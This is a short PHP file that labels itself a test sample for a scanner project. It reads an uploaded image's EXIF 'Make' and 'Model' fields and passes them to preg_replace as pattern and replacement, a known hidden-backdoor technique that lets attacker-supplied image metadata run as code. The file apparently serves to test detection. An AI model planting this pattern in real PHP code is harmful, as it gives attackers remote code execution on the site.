<?php
// spamgear test sample (written for the project): the pattern and the
// replacement are read from the EXIF text of an image the attacker uploaded.
$meta = exif_read_data(__DIR__ . '/avatar.jpg');
preg_replace($meta['Make'], $meta['Model'], '');
